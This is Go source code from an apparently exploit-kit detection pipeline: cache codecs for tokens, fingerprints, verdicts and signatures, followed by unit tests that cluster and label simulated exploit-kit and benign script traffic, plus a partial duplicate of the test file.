		kindTokens:      tokensCodec{},
		kindSignature:   signatureCodec{},
		kindPairVerdict: verdictCodec{},
	}
	// Non-default ingest profiles store their lexer/unpacker-dependent
	// kinds at a per-profile offset (see profiledKind); register the same
	// codecs there. The token codec additionally carries the profile's
	// symbol-restore hook: persisted tokens drop the cached abstraction
	// symbol, and without the hook a restored webkit token would fall back
	// to the JS keyword tables — warm and cold runs would diverge.
	for _, id := range ingest.IDs() {
		p, _ := ingest.Lookup(id)
		if p == nil || p.KindOffset() == 0 {
			continue
		}
		codecs[profiledKind(kindRawSymbols, p)] = symbolsCodec{}
		codecs[profiledKind(kindUnpack, p)] = unpackCodec{}
		codecs[profiledKind(kindTokens, p)] = tokensCodec{resym: p.SymbolFor}
		codecs[profiledKind(kindSignature, p)] = signatureCodec{}
	}
	return codecs
}

var errCorruptValue = errors.New("pipeline: corrupt cached value")

// --- primitive helpers ---

func appendUvarint(b []byte, v uint64) []byte { return binary.AppendUvarint(b, v) }

func readUvarint(b []byte) (uint64, []byte, error) {
	v, n := binary.Uvarint(b)
	if n <= 0 {
		return 0, nil, errCorruptValue
	}
	return v, b[n:], nil
}

func appendString(b []byte, s string) []byte {
	b = appendUvarint(b, uint64(len(s)))
	return append(b, s...)
}

func readString(b []byte) (string, []byte, error) {
	n, b, err := readUvarint(b)
	if err != nil || uint64(len(b)) < n {
		return "", nil, errCorruptValue
	}
	return string(b[:n]), b[n:], nil
}

// --- kindRawSymbols: []jstoken.Symbol ---

type symbolsCodec struct{}

func (symbolsCodec) Encode(value any) ([]byte, error) {
	syms, ok := value.([]jstoken.Symbol)
	if !ok {
		return nil, fmt.Errorf("pipeline: symbols codec: %T", value)
	}
	b := appendUvarint(nil, uint64(len(syms)))
	for _, s := range syms {
		b = binary.LittleEndian.AppendUint16(b, uint16(s))
	}
	return b, nil
}

func (symbolsCodec) Decode(data []byte) (any, error) {
	n, data, err := readUvarint(data)
	// Compare n against len/2 rather than 2*n against len: the latter
	// overflows for a hostile 2^63-scale count and would pass the check.
	if err != nil || n != uint64(len(data))/2 || len(data)%2 != 0 {
		return nil, errCorruptValue
	}
	syms := make([]jstoken.Symbol, n)
	for i := range syms {
		syms[i] = jstoken.Symbol(binary.LittleEndian.Uint16(data[2*i:]))
	}
	return syms, nil
}

// --- kindUnpack: unpackEntry ---

type unpackCodec struct{}

func (unpackCodec) Encode(value any) ([]byte, error) {
	e, ok := value.(unpackEntry)
	if !ok {
		return nil, fmt.Errorf("pipeline: unpack codec: %T", value)
	}
	b := appendString(nil, e.payload)
	return appendString(b, e.method), nil
}

func (unpackCodec) Decode(data []byte) (any, error) {
	payload, data, err := readString(data)
	if err != nil {
		return nil, err
	}
	method, data, err := readString(data)
	if err != nil || len(data) != 0 {
		return nil, errCorruptValue
	}
	return unpackEntry{payload: payload, method: method}, nil
}

// --- winnow.Config and Histogram pieces ---

func appendWinnowConfig(b []byte, cfg winnow.Config) []byte {
	b = appendUvarint(b, uint64(cfg.K))
	return appendUvarint(b, uint64(cfg.Window))
}

func readWinnowConfig(b []byte) (winnow.Config, []byte, error) {
	k, b, err := readUvarint(b)
	if err != nil {
		return winnow.Config{}, nil, err
	}
	w, b, err := readUvarint(b)
	if err != nil {
		return winnow.Config{}, nil, err
	}
	return winnow.Config{K: int(k), Window: int(w)}, b, nil
}

func appendHistogram(b []byte, h winnow.Histogram) []byte {
	b = appendUvarint(b, uint64(len(h)))
	for hash, count := range h {
		b = binary.LittleEndian.AppendUint64(b, hash)
		b = appendUvarint(b, uint64(count))
	}
	return b
}

func readHistogram(b []byte) (winnow.Histogram, []byte, error) {
	n, b, err := readUvarint(b)
	if err != nil {
		return nil, nil, err
	}
	// Each entry takes ≥9 encoded bytes; a count that cannot fit the
	// remaining data is corrupt. Checking before make() keeps a bad
	// length prefix from turning into a huge allocation instead of a
	// skipped entry.
	if n > uint64(len(b))/9 {
		return nil, nil, errCorruptValue
	}
	h := make(winnow.Histogram, n)
	for i := uint64(0); i < n; i++ {
		if len(b) < 8 {
			return nil, nil, errCorruptValue
		}
		hash := binary.LittleEndian.Uint64(b)
		var count uint64
		count, b, err = readUvarint(b[8:])
		if err != nil {
			return nil, nil, err
		}
		h[hash] = int(count)
	}
	return h, b, nil
}

// --- kindFingerprint: fingerprintEntry ---

type fingerprintCodec struct{}

func (fingerprintCodec) Encode(value any) ([]byte, error) {
	e, ok := value.(fingerprintEntry)
	if !ok {
		return nil, fmt.Errorf("pipeline: fingerprint codec: %T", value)
	}
	b := appendWinnowConfig(nil, e.cfg)
	return appendHistogram(b, e.hist), nil
}

func (fingerprintCodec) Decode(data []byte) (any, error) {
	cfg, data, err := readWinnowConfig(data)
	if err != nil {
		return nil, err
	}
	hist, data, err := readHistogram(data)
	if err != nil || len(data) != 0 {
		return nil, errCorruptValue
	}
	return fingerprintEntry{cfg: cfg, hist: hist}, nil
}

// --- kindLabel: labelEntry ---
//
// Per-family verdicts are only valid for the exact family contents they
// were computed against; each family's content-derived generation is
// persisted verbatim, so a restarted process that reseeds the same corpus
// contents recomputes the same generations and keeps the warm verdicts,
// while any family whose contents differ sees a generation mismatch for
// just its slice — a stale snapshot degrades to partial misses, never a
// wrong label.

type labelCodec struct{}

func (labelCodec) Encode(value any) ([]byte, error) {
	e, ok := value.(labelEntry)
	if !ok {
		return nil, fmt.Errorf("pipeline: label codec: %T", value)
	}
	b := appendWinnowConfig(nil, e.cfg)
	b = appendUvarint(b, uint64(len(e.verdicts)))
	for _, v := range e.verdicts {
		b = appendString(b, v.Family)
		b = binary.LittleEndian.AppendUint64(b, v.Gen)
		b = binary.LittleEndian.AppendUint64(b, math.Float64bits(v.Overlap))
	}
	return b, nil
}

func (labelCodec) Decode(data []byte) (any, error) {
	cfg, data, err := readWinnowConfig(data)
	if err != nil {
		return nil, err
	}
	n, data, err := readUvarint(data)
	if err != nil {
		return nil, err
	}
	// A verdict encodes to ≥17 bytes (empty family name, gen, overlap);
	// bound the pre-allocation by what the data could actually hold.
	if n > uint64(len(data))/17 {
		return nil, errCorruptValue
	}
	e := labelEntry{cfg: cfg, verdicts: make([]FamilyVerdict, 0, n)}
	for i := uint64(0); i < n; i++ {
		var v FamilyVerdict
		v.Family, data, err = readString(data)
		if err != nil || len(data) < 16 {
			return nil, errCorruptValue
		}
		v.Gen = binary.LittleEndian.Uint64(data)
		v.Overlap = math.Float64frombits(binary.LittleEndian.Uint64(data[8:]))
		data = data[16:]
		e.verdicts = append(e.verdicts, v)
	}
	if len(data) != 0 {
		return nil, errCorruptValue
	}
	return e, nil
}

// --- kindTokens: []jstoken.Token ---
//
// The lexer's cached abstraction symbol is not serialized (it is
// unexported). For the JS profile restored tokens recompute it on demand
// — which only the signature stage's bounded sample set ever pays — and
// the encoding stays byte-identical to every historical snapshot. For
// other profiles the codec's resym hook restores the profile's own
// symbols at decode time.

type tokensCodec struct {
	// resym, when set, recomputes each restored token's abstraction
	// symbol under a non-default profile's alphabet.
	resym func(jstoken.Class, string) jstoken.Symbol
}

func (tokensCodec) Encode(value any) ([]byte, error) {
	tokens, ok := value.([]jstoken.Token)
	if !ok {
		return nil, fmt.Errorf("pipeline: tokens codec: %T", value)
	}
	b := appendUvarint(nil, uint64(len(tokens)))
	for _, t := range tokens {
		b = appendUvarint(b, uint64(t.Class))
		b = appendString(b, t.Text)
		b = appendUvarint(b, uint64(t.Pos))
	}
	return b, nil
}

func (c tokensCodec) Decode(data []byte) (any, error) {
	n, data, err := readUvarint(data)
	if err != nil {
		return nil, err
	}
	// A token encodes to ≥3 bytes (class, empty text, pos); bound the
	// pre-allocation by what the data could actually hold.
	if n > uint64(len(data))/3 {
		return nil, errCorruptValue
	}
	tokens := make([]jstoken.Token, 0, n)
	for i := uint64(0); i < n; i++ {
		var class, pos uint64
		var text string
		class, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		text, data, err = readString(data)
		if err != nil {
			return nil, err
		}
		pos, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		var sym jstoken.Symbol
		if c.resym != nil {
			sym = c.resym(jstoken.Class(class), text)
		}
		tokens = append(tokens, jstoken.MakeToken(jstoken.Class(class), text, int(pos), sym))
	}
	if len(data) != 0 {
		return nil, errCorruptValue
	}
	return tokens, nil
}

// --- kindSignature: signatureEntry ---

type signatureCodec struct{}

func (signatureCodec) Encode(value any) ([]byte, error) {
	e, ok := value.(signatureEntry)
	if !ok {
		return nil, fmt.Errorf("pipeline: signature codec: %T", value)
	}
	b := appendUvarint(nil, uint64(e.cfg.MinTokens))
	b = appendUvarint(b, uint64(e.cfg.MaxTokens))
	b = appendUvarint(b, uint64(e.cfg.LengthSlack))
	b = appendUvarint(b, uint64(e.cfg.MaxLiteral))
	b = appendString(b, e.sig.Family)
	b = appendUvarint(b, uint64(e.sig.Samples))
	b = appendUvarint(b, uint64(len(e.sig.Elements)))
	for _, el := range e.sig.Elements {
		b = appendUvarint(b, uint64(el.Kind))
		b = appendString(b, el.Literal)
		b = appendString(b, el.Class)
		b = appendUvarint(b, uint64(el.MinLen))
		b = appendUvarint(b, uint64(el.MaxLen))
		// Group is -1 for uncaptured elements; bias by one to stay
		// unsigned on the wire.
		b = appendUvarint(b, uint64(el.Group+1))
	}
	return b, nil
}

func (signatureCodec) Decode(data []byte) (any, error) {
	var e signatureEntry
	fields := []*int{&e.cfg.MinTokens, &e.cfg.MaxTokens, &e.cfg.LengthSlack, &e.cfg.MaxLiteral}
	var err error
	for _, f := range fields {
		var v uint64
		v, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		*f = int(v)
	}
	e.sig.Family, data, err = readString(data)
	if err != nil {
		return nil, err
	}
	samples, data, err := readUvarint(data)
	if err != nil {
		return nil, err
	}
	e.sig.Samples = int(samples)
	n, data, err := readUvarint(data)
	if err != nil {
		return nil, err
	}
	// An element encodes to ≥6 bytes (kind, two empty strings, three
	// small ints); bound the pre-allocation accordingly.
	if n > uint64(len(data))/6 {
		return nil, errCorruptValue
	}
	e.sig.Elements = make([]siggen.Element, 0, n)
	for i := uint64(0); i < n; i++ {
		var el siggen.Element
		var kind, minLen, maxLen, group uint64
		kind, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		el.Literal, data, err = readString(data)
		if err != nil {
			return nil, err
		}
		el.Class, data, err = readString(data)
		if err != nil {
			return nil, err
		}
		minLen, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		maxLen, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		group, data, err = readUvarint(data)
		if err != nil {
			return nil, err
		}
		el.Kind = siggen.ElementKind(kind)
		el.MinLen, el.MaxLen, el.Group = int(minLen), int(maxLen), int(group)-1
		e.sig.Elements = append(e.sig.Elements, el)
	}
	if len(data) != 0 {
		return nil, errCorruptValue
	}
	return e, nil
}

// --- kindPairVerdict: bool ---

type verdictCodec struct{}

func (verdictCodec) Encode(value any) ([]byte, error) {
	v, ok := value.(bool)
	if !ok {
		return nil, fmt.Errorf("pipeline: verdict codec: %T", value)
	}
	if v {
		return []byte{1}, nil
	}
	return []byte{0}, nil
}

func (verdictCodec) Decode(data []byte) (any, error) {
	if len(data) != 1 || data[0] > 1 {
		return nil, errCorruptValue
	}
	return data[0] == 1, nil
}
