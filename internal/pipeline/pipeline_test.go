package pipeline

import (
	"fmt"
	"strings"
	"time"

	"kizzle/internal/contentcache"
	"testing"

	"kizzle/internal/ekit"
	"kizzle/internal/winnow"
)

// testConfig returns a pipeline config sized for unit tests.
func testConfig() Config {
	cfg := DefaultConfig()
	cfg.Workers = 4
	cfg.PartitionSize = 120
	return cfg
}

// seedCorpus seeds a corpus with the previous day's unpacked kit payloads,
// the way the evaluation harness does.
func seedCorpus(day int) *Corpus {
	c := NewCorpus(winnow.DefaultConfig(), 16)
	for _, fam := range ekit.Families {
		c.Add(fam.String(), ekit.Payload(fam, day-1))
		c.Add(fam.String(), ekit.Payload(fam, day-2))
	}
	return c
}

func inputsFromSamples(samples []ekit.Sample) []Input {
	in := make([]Input, len(samples))
	for i, s := range samples {
		in[i] = Input{ID: s.ID, Content: s.Content}
	}
	return in
}

func TestProcessEmptyInput(t *testing.T) {
	if _, err := Process(nil, nil, testConfig()); err != ErrNoInputs {
		t.Errorf("err = %v, want ErrNoInputs", err)
	}
}

// TestProcessLabelsAllKits runs the full pipeline over one simulated day
// and checks every kit's traffic ends in a correctly labeled cluster with a
// signature.
func TestProcessLabelsAllKits(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 150
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 5)
	samples := stream.Day(day)
	res, err := Process(inputsFromSamples(samples), seedCorpus(day), testConfig())
	if err != nil {
		t.Fatal(err)
	}

	// Map every sample index to its ground truth.
	truth := make([]ekit.Family, len(samples))
	for i, s := range samples {
		truth[i] = s.Family
	}

	labeled := make(map[ekit.Family]int)
	mislabeled := 0
	for _, cl := range res.Clusters {
		for _, si := range cl.Samples {
			want := truth[si]
			if cl.Label == "" {
				continue
			}
			if cl.Label == want.String() {
				labeled[want]++
			} else {
				mislabeled++
			}
		}
	}
	for _, fam := range ekit.Families {
		total := 0
		for i := range samples {
			if truth[i] == fam {
				total++
			}
		}
		if total == 0 {
			continue
		}
		if labeled[fam] < total*3/4 {
			t.Errorf("%v: only %d/%d samples in correctly labeled clusters", fam, labeled[fam], total)
		}
	}
	// A small number of benign mislabels is by design: the shared-code
	// benign families (PluginDetect / the charcode tracker) cross their
	// family thresholds on some days — the paper's false-positive
	// mechanism (Figure 15). Bound it rather than forbid it.
	if mislabeled > len(samples)*3/100 {
		t.Errorf("%d samples mislabeled (> 3%%)", mislabeled)
	}

	// Each malicious cluster must have produced a signature.
	for _, cl := range res.Clusters {
		if cl.Label != "" && cl.SignatureIndex < 0 {
			t.Errorf("malicious cluster %q (%d samples) has no signature", cl.Label, len(cl.Samples))
		}
	}
	if res.Stats.Malicious == 0 {
		t.Error("no malicious clusters found")
	}
	if res.Stats.Clusters < 10 {
		t.Errorf("only %d clusters; benign families should form many", res.Stats.Clusters)
	}
}

// TestProcessBenignOnly verifies that a stream without kits produces no
// malicious labels against an empty corpus.
func TestProcessBenignOnly(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 120
	cfg.KitPerDay = nil
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 6)
	res, err := Process(inputsFromSamples(stream.Day(day)), NewCorpus(winnow.DefaultConfig(), 8), testConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, cl := range res.Clusters {
		if cl.Label != "" {
			t.Errorf("benign-only stream produced malicious cluster %q", cl.Label)
		}
	}
	if len(res.Signatures) != 0 {
		t.Errorf("benign-only stream produced %d signatures", len(res.Signatures))
	}
}

// TestProcessDeterministic ensures two runs produce identical clusters.
func TestProcessDeterministic(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 80
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 7)
	in := inputsFromSamples(stream.Day(day))
	a, err := Process(in, seedCorpus(day), testConfig())
	if err != nil {
		t.Fatal(err)
	}
	b, err := Process(in, seedCorpus(day), testConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Clusters) != len(b.Clusters) || len(a.Signatures) != len(b.Signatures) {
		t.Fatalf("runs differ: %d/%d clusters, %d/%d signatures",
			len(a.Clusters), len(b.Clusters), len(a.Signatures), len(b.Signatures))
	}
	for i := range a.Signatures {
		if a.Signatures[i].Regex() != b.Signatures[i].Regex() {
			t.Errorf("signature %d differs between runs", i)
		}
	}
}

// TestReduceMergesAcrossPartitions forces a tiny partition size so that one
// kit's samples land in different partitions, then verifies the reduce step
// still assembles one cluster per kit.
func TestReduceMergesAcrossPartitions(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 40
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 8)
	samples := stream.Day(day)
	pcfg := testConfig()
	pcfg.PartitionSize = 10 // force heavy partitioning
	res, err := Process(inputsFromSamples(samples), seedCorpus(day), pcfg)
	if err != nil {
		t.Fatal(err)
	}
	anglerClusters := 0
	anglerSamples := 0
	for _, cl := range res.Clusters {
		if cl.Label == ekit.FamilyAngler.String() {
			anglerClusters++
			anglerSamples += len(cl.Samples)
		}
	}
	total := 0
	for _, s := range samples {
		if s.Family == ekit.FamilyAngler {
			total++
		}
	}
	if anglerSamples < total*3/4 {
		t.Errorf("Angler coverage after reduce: %d/%d samples", anglerSamples, total)
	}
}

func TestCorpus(t *testing.T) {
	c := NewCorpus(winnow.DefaultConfig(), 2)
	if f, o := c.BestMatch("anything"); f != "" || o != 0 {
		t.Errorf("empty corpus BestMatch = (%q,%v)", f, o)
	}
	c.Add("RIG", "aaaa bbbb cccc dddd eeee ffff")
	c.Add("Nuclear", "zzzz yyyy xxxx wwww vvvv uuuu")
	fams := c.Families()
	if len(fams) != 2 || fams[0] != "Nuclear" || fams[1] != "RIG" {
		t.Errorf("Families = %v", fams)
	}
	f, o := c.BestMatch("aaaa bbbb cccc dddd eeee ffff")
	if f != "RIG" || o < 0.99 {
		t.Errorf("BestMatch = (%q,%v), want RIG ~1.0", f, o)
	}
	// Eviction: cap is 2 per family.
	c.Add("RIG", "1111")
	c.Add("RIG", "2222")
	c.Add("RIG", "3333")
	if got := c.Size("RIG"); got != 2 {
		t.Errorf("RIG corpus size = %d, want 2 (evicted)", got)
	}
}

func TestCorpusOverlapWith(t *testing.T) {
	c := NewCorpus(winnow.DefaultConfig(), 4)
	text := "function detect() { return navigator.plugins.length; }"
	c.Add("Nuclear", text)
	if got := c.OverlapWith("Nuclear", text); got < 0.99 {
		t.Errorf("self overlap = %v", got)
	}
	if got := c.OverlapWith("RIG", text); got != 0 {
		t.Errorf("unknown family overlap = %v, want 0", got)
	}
}

func TestConfigThreshold(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Thresholds = map[string]float64{"Nuclear": 0.8}
	if got := cfg.Threshold("Nuclear"); got != 0.8 {
		t.Errorf("Nuclear threshold = %v", got)
	}
	if got := cfg.Threshold("RIG"); got != cfg.DefaultThreshold {
		t.Errorf("default threshold = %v", got)
	}
}

// recordingSession captures emitted partitions without executing them.
type recordingSession struct {
	emitted []emittedPartition
}

func (s *recordingSession) submitPartition(ep emittedPartition, _ time.Duration) {
	s.emitted = append(s.emitted, ep)
}
func (s *recordingSession) collect(*uniqueSet) ([]summary, error)    { return nil, nil }
func (s *recordingSession) edges(rows, cols []int) ([][2]int, error) { return nil, nil }
func (s *recordingSession) edgeStats() (int, time.Duration)          { return 0, 0 }
func (s *recordingSession) preReduceTime() time.Duration             { return 0 }
func (s *recordingSession) close()                                   {}

// TestStreamPartitioning pins the streaming emission contract: every
// unique sequence lands in exactly one partition, partitions fill to
// PartitionSize in dedup-discovery order (last one partial), and the
// emitted weights count the members each unique had at emission time.
func TestStreamPartitioning(t *testing.T) {
	var inputs []Input
	// 10 distinct shapes, interleaved so duplicates keep arriving after a
	// shape's partition closed.
	for rep := 0; rep < 3; rep++ {
		for v := 0; v < 10; v++ {
			inputs = append(inputs, Input{
				ID: fmt.Sprintf("s%d-%d", v, rep),
				// Structurally distinct shapes: v+1 repeated statements.
				Content: "var a = 0;" + strings.Repeat("a++;", v+1),
			})
		}
	}
	cfg := DefaultConfig()
	cfg.Workers = 2
	cfg.PartitionSize = 3
	cfg.PartitionFanout = 1 // single buffer: partitions chunk in discovery order
	cfg.Cache = contentcache.New(1 << 20)
	sess := &recordingSession{}
	out := runClusterStage(inputs, cfg, sess)

	if out.uniqueDocs != 10 {
		t.Fatalf("unique documents = %d, want 10", out.uniqueDocs)
	}
	if len(out.u.seqs) != 10 {
		t.Fatalf("unique sequences = %d, want 10", len(out.u.seqs))
	}
	if want := 4; len(sess.emitted) != want || out.partitions != want {
		t.Fatalf("emitted %d partitions (stats %d), want %d", len(sess.emitted), out.partitions, want)
	}
	seen := make(map[int]bool)
	next := 0
	for pi, ep := range sess.emitted {
		wantLen := cfg.PartitionSize
		if pi == len(sess.emitted)-1 {
			wantLen = 1
		}
		if len(ep.uniques) != wantLen || len(ep.part.Seqs) != wantLen || len(ep.part.Weights) != wantLen {
			t.Fatalf("partition %d has %d uniques, want %d", pi, len(ep.uniques), wantLen)
		}
		for k, ui := range ep.uniques {
			if seen[ui] {
				t.Fatalf("unique %d assigned twice", ui)
			}
			seen[ui] = true
			// Discovery order: uniques are emitted in creation order.
			if ui != next {
				t.Fatalf("partition %d emits unique %d, want %d (discovery order)", pi, ui, next)
			}
			next++
			if got := out.emitWeight[ui]; got != ep.part.Weights[k] {
				t.Fatalf("unique %d emit weight %d != wire weight %d", ui, got, ep.part.Weights[k])
			}
			if !symbolsEqual(ep.part.Seqs[k], out.u.seqs[ui]) {
				t.Fatalf("partition %d ships wrong sequence for unique %d", pi, ui)
			}
		}
	}
	if len(seen) != 10 {
		t.Fatalf("%d uniques emitted, want 10", len(seen))
	}
	// All 10 shapes appear once before any repeats, so the first three
	// partitions close before any duplicate arrives (weight 1 each); final
	// weights count all three copies.
	for ui := 0; ui < 9; ui++ {
		if out.emitWeight[ui] != 1 {
			t.Errorf("unique %d emit weight = %d, want 1 (emitted before duplicates)", ui, out.emitWeight[ui])
		}
		if got := len(out.u.members[ui]); got != 3 {
			t.Errorf("unique %d final members = %d, want 3", ui, got)
		}
	}
}

// TestStreamPartitionScatter pins the round-robin scatter: with fanout F,
// consecutive uniques land in F different partitions, every unique is
// assigned exactly once, and runs of near-identical consecutive shapes
// are split apart.
func TestStreamPartitionScatter(t *testing.T) {
	var inputs []Input
	const uniques = 24
	for v := 0; v < uniques; v++ {
		inputs = append(inputs, Input{
			ID:      fmt.Sprintf("s%d", v),
			Content: "var a = 0;" + strings.Repeat("a++;", v+1),
		})
	}
	cfg := DefaultConfig()
	cfg.Workers = 2
	cfg.PartitionSize = 3
	cfg.PartitionFanout = 4
	cfg.Cache = contentcache.New(1 << 20)
	sess := &recordingSession{}
	out := runClusterStage(inputs, cfg, sess)
	if len(out.u.seqs) != uniques {
		t.Fatalf("unique sequences = %d, want %d", len(out.u.seqs), uniques)
	}
	partOf := make(map[int]int)
	for pi, ep := range sess.emitted {
		for _, ui := range ep.uniques {
			if _, dup := partOf[ui]; dup {
				t.Fatalf("unique %d assigned twice", ui)
			}
			partOf[ui] = pi
		}
		// Round-robin scatter: a partition's uniques are congruent mod
		// fanout — consecutive discoveries never share a partition.
		for _, ui := range ep.uniques[1:] {
			if ui%cfg.PartitionFanout != ep.uniques[0]%cfg.PartitionFanout {
				t.Fatalf("partition %d mixes scatter residues: %v", pi, ep.uniques)
			}
		}
	}
	if len(partOf) != uniques {
		t.Fatalf("%d uniques assigned, want %d", len(partOf), uniques)
	}
	for ui := 0; ui+1 < uniques; ui++ {
		if partOf[ui] == partOf[ui+1] {
			t.Fatalf("consecutive uniques %d,%d share partition %d", ui, ui+1, partOf[ui])
		}
	}
}

func BenchmarkProcessDay(b *testing.B) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 300
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		b.Fatal(err)
	}
	day := ekit.Date(8, 5)
	in := inputsFromSamples(stream.Day(day))
	corpus := seedCorpus(day)
	pcfg := testConfig()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Process(in, corpus, pcfg); err != nil {
			b.Fatal(err)
		}
	}
}
