package pipeline

import (
	"testing"

	"kizzle/internal/ekit"
	"kizzle/internal/winnow"
)

// testConfig returns a pipeline config sized for unit tests.
func testConfig() Config {
	cfg := DefaultConfig()
	cfg.Workers = 4
	cfg.PartitionSize = 120
	return cfg
}

// seedCorpus seeds a corpus with the previous day's unpacked kit payloads,
// the way the evaluation harness does.
func seedCorpus(day int) *Corpus {
	c := NewCorpus(winnow.DefaultConfig(), 16)
	for _, fam := range ekit.Families {
		c.Add(fam.String(), ekit.Payload(fam, day-1))
		c.Add(fam.String(), ekit.Payload(fam, day-2))
	}
	return c
}

func inputsFromSamples(samples []ekit.Sample) []Input {
	in := make([]Input, len(samples))
	for i, s := range samples {
		in[i] = Input{ID: s.ID, Content: s.Content}
	}
	return in
}

func TestProcessEmptyInput(t *testing.T) {
	if _, err := Process(nil, nil, testConfig()); err != ErrNoInputs {
		t.Errorf("err = %v, want ErrNoInputs", err)
	}
}

// TestProcessLabelsAllKits runs the full pipeline over one simulated day
// and checks every kit's traffic ends in a correctly labeled cluster with a
// signature.
func TestProcessLabelsAllKits(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 150
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 5)
	samples := stream.Day(day)
	res, err := Process(inputsFromSamples(samples), seedCorpus(day), testConfig())
	if err != nil {
		t.Fatal(err)
	}

	// Map every sample index to its ground truth.
	truth := make([]ekit.Family, len(samples))
	for i, s := range samples {
		truth[i] = s.Family
	}

	labeled := make(map[ekit.Family]int)
	mislabeled := 0
	for _, cl := range res.Clusters {
		for _, si := range cl.Samples {
			want := truth[si]
			if cl.Label == "" {
				continue
			}
			if cl.Label == want.String() {
				labeled[want]++
			} else {
				mislabeled++
			}
		}
	}
	for _, fam := range ekit.Families {
		total := 0
		for i := range samples {
			if truth[i] == fam {
				total++
			}
		}
		if total == 0 {
			continue
		}
		if labeled[fam] < total*3/4 {
			t.Errorf("%v: only %d/%d samples in correctly labeled clusters", fam, labeled[fam], total)
		}
	}
	// A small number of benign mislabels is by design: the shared-code
	// benign families (PluginDetect / the charcode tracker) cross their
	// family thresholds on some days — the paper's false-positive
	// mechanism (Figure 15). Bound it rather than forbid it.
	if mislabeled > len(samples)*3/100 {
		t.Errorf("%d samples mislabeled (> 3%%)", mislabeled)
	}

	// Each malicious cluster must have produced a signature.
	for _, cl := range res.Clusters {
		if cl.Label != "" && cl.SignatureIndex < 0 {
			t.Errorf("malicious cluster %q (%d samples) has no signature", cl.Label, len(cl.Samples))
		}
	}
	if res.Stats.Malicious == 0 {
		t.Error("no malicious clusters found")
	}
	if res.Stats.Clusters < 10 {
		t.Errorf("only %d clusters; benign families should form many", res.Stats.Clusters)
	}
}

// TestProcessBenignOnly verifies that a stream without kits produces no
// malicious labels against an empty corpus.
func TestProcessBenignOnly(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 120
	cfg.KitPerDay = nil
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 6)
	res, err := Process(inputsFromSamples(stream.Day(day)), NewCorpus(winnow.DefaultConfig(), 8), testConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, cl := range res.Clusters {
		if cl.Label != "" {
			t.Errorf("benign-only stream produced malicious cluster %q", cl.Label)
		}
	}
	if len(res.Signatures) != 0 {
		t.Errorf("benign-only stream produced %d signatures", len(res.Signatures))
	}
}

// TestProcessDeterministic ensures two runs produce identical clusters.
func TestProcessDeterministic(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 80
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 7)
	in := inputsFromSamples(stream.Day(day))
	a, err := Process(in, seedCorpus(day), testConfig())
	if err != nil {
		t.Fatal(err)
	}
	b, err := Process(in, seedCorpus(day), testConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Clusters) != len(b.Clusters) || len(a.Signatures) != len(b.Signatures) {
		t.Fatalf("runs differ: %d/%d clusters, %d/%d signatures",
			len(a.Clusters), len(b.Clusters), len(a.Signatures), len(b.Signatures))
	}
	for i := range a.Signatures {
		if a.Signatures[i].Regex() != b.Signatures[i].Regex() {
			t.Errorf("signature %d differs between runs", i)
		}
	}
}

// TestReduceMergesAcrossPartitions forces a tiny partition size so that one
// kit's samples land in different partitions, then verifies the reduce step
// still assembles one cluster per kit.
func TestReduceMergesAcrossPartitions(t *testing.T) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 40
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	day := ekit.Date(8, 8)
	samples := stream.Day(day)
	pcfg := testConfig()
	pcfg.PartitionSize = 10 // force heavy partitioning
	res, err := Process(inputsFromSamples(samples), seedCorpus(day), pcfg)
	if err != nil {
		t.Fatal(err)
	}
	anglerClusters := 0
	anglerSamples := 0
	for _, cl := range res.Clusters {
		if cl.Label == ekit.FamilyAngler.String() {
			anglerClusters++
			anglerSamples += len(cl.Samples)
		}
	}
	total := 0
	for _, s := range samples {
		if s.Family == ekit.FamilyAngler {
			total++
		}
	}
	if anglerSamples < total*3/4 {
		t.Errorf("Angler coverage after reduce: %d/%d samples", anglerSamples, total)
	}
}

func TestCorpus(t *testing.T) {
	c := NewCorpus(winnow.DefaultConfig(), 2)
	if f, o := c.BestMatch("anything"); f != "" || o != 0 {
		t.Errorf("empty corpus BestMatch = (%q,%v)", f, o)
	}
	c.Add("RIG", "aaaa bbbb cccc dddd eeee ffff")
	c.Add("Nuclear", "zzzz yyyy xxxx wwww vvvv uuuu")
	fams := c.Families()
	if len(fams) != 2 || fams[0] != "Nuclear" || fams[1] != "RIG" {
		t.Errorf("Families = %v", fams)
	}
	f, o := c.BestMatch("aaaa bbbb cccc dddd eeee ffff")
	if f != "RIG" || o < 0.99 {
		t.Errorf("BestMatch = (%q,%v), want RIG ~1.0", f, o)
